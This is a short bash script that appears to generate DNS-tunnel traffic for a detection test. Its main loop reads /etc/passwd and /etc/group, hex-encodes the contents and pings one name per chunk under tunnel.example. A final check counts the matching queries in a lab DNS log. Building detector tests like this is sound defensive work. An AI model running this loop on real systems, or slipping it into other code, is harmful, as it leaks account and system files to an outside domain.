#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=ping seconds=40 parts=dns
# A shell takes /etc/passwd and /etc/group to pieces of 30 bytes and pings a name for each of them, in hexadecimal, below a domain of somebody's.
sleep 1; n=0; for piece in $(cat /etc/passwd /etc/group | head -c 2400 | xxd -p -c 30); do n=$((n + 1)); ping -c 1 -W 1 "$piece.$n.tunnel.example" >/dev/null 2>&1; sleep 0.2; done
sleep 3; [ "$(grep -c 'query\[A\].*tunnel\.example' "$LAB/dns.log")" -ge 75 ]
